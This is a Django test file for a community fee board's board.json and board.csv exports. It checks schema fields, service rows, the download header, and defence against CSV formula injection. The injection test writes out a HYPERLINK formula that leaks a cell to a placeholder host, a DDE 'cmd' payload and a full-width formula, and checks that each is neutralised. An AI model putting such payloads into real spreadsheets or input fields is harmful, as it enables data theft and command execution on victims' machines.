"""A fee board's machine-readable copies: board.json (its documented schema) and board.csv."""

import csv
import io

from django.conf import settings

from cms.exports import CSV_COLUMNS, SCHEMA
from cms.services import board_publish

URL = "/boards/wangjing-garden/"


# --- JSON and CSV ----------------------------------------------------------------------------


def test_board_json_follows_the_documented_schema(client, board, service):
    response = client.get(URL + "board.json")
    assert response["Content-Type"].startswith("application/json")
    doc = response.json()
    assert doc["schema"] == SCHEMA
    assert doc["url"] == settings.SITE_URL.rstrip("/") + URL
    assert doc["revision_id"] == board.live_revision_id
    assert doc["currency"] == "CNY"
    assert set(doc) >= {
        "community",
        "enterprise",
        "project",
        "complaint_phones",
        "service",
        "charging_items",
        "life_services",
        "staff",
        "repair",
        "maintenance_units",
        "parking",
        "public_facilities",
        "common_parts_statements",
        "maintenance_fund_uses",
        "repair_fee_items",
    }
    assert doc["community"]["slug"] == "wangjing-garden"
    assert {"code": "replace-tap", "amount": "30.00"}.items() <= doc["repair_fee_items"][0].items()
    [svc] = doc["life_services"]
    assert svc == {
        "product_id": service.pk,
        "stockrecord_id": svc["stockrecord_id"],
        "upc": service.upc,
        "title": "日常保洁（2 小时）",
        "title_en": "Regular cleaning (2 hours)",
        "category_slug": "housekeeping",
        "category": "家政服务",
        "category_en": "Housekeeping",
        "unit": "次",
        "unit_en": "visit",
        "duration_minutes": 120,
        "price": "120.00",
        "cancellation_fee": "30.00",
        "currency": "CNY",
        "provider": "好帮手家政",
        "provider_en": "Haobangshou",
    }
    item = doc["charging_items"][0]
    assert set(item) == {
        "kind",
        "name",
        "name_en",
        "building_type",
        "building_type_en",
        "amount",
        "unit",
        "unit_en",
        "basis",
        "note",
        "note_en",
    }
    assert item["basis"] in ("government", "market")


def test_board_csv_has_one_row_per_charge(client, board, service):
    response = client.get(URL + "board.csv")
    assert response["Content-Type"].startswith("text/csv")
    text = response.content.decode("utf-8")
    assert text.startswith("\ufeff")
    rows = list(csv.DictReader(io.StringIO(text.lstrip("\ufeff"))))
    assert list(rows[0]) == CSV_COLUMNS
    services = [r for r in rows if r["section"] == "life_service"]
    assert services == [
        {
            "section": "life_service",
            "code": service.upc,
            "name": "日常保洁（2 小时）",
            "name_en": "Regular cleaning (2 hours)",
            "detail": "家政服务",
            "detail_en": "Housekeeping",
            "unit": "次",
            "unit_en": "visit",
            "price": "120.00",
            "cancellation_fee": "30.00",
            "basis": "market",
            "currency": "CNY",
            "revision_id": str(board.live_revision_id),
            "published_at": services[0]["published_at"],
        }
    ]
    items = [r for r in rows if r["section"] == "charging_item"]
    assert len(items) == board.fee_items.count() and items[0]["cancellation_fee"] == ""


# --- CSV injection and downloads ----------------------------------------------------------------

FORMULA = '=HYPERLINK("http://example.invalid/?x="&A1,"click")'


def test_a_fee_item_named_like_a_formula_is_text_in_board_csv(client, board):
    draft = board.get_latest_revision_as_object()
    items = list(draft.fee_items.all())
    items[0].name = FORMULA
    items[0].name_en = "+1+cmd|' /C calc'!A0"
    items[0].unit = "＝1+1"  # full-width, as a Chinese IME types it
    draft.fee_items = items
    board_publish(board=board, draft=draft)
    response = client.get(URL + "board.csv")
    rows = list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))
    item = next(r for r in rows if r["section"] == "charging_item")
    assert item["name"] == "'" + FORMULA
    assert item["name_en"] == "'+1+cmd|' /C calc'!A0"
    assert item["unit"] == "'＝1+1"
    assert item["price"] == str(items[0].amount)  # a number, left as one


def test_board_csv_is_served_as_a_download(client, board):
    response = client.get(URL + "board.csv")
    assert response["Content-Disposition"] == 'attachment; filename="wangjing-garden-board.csv"'
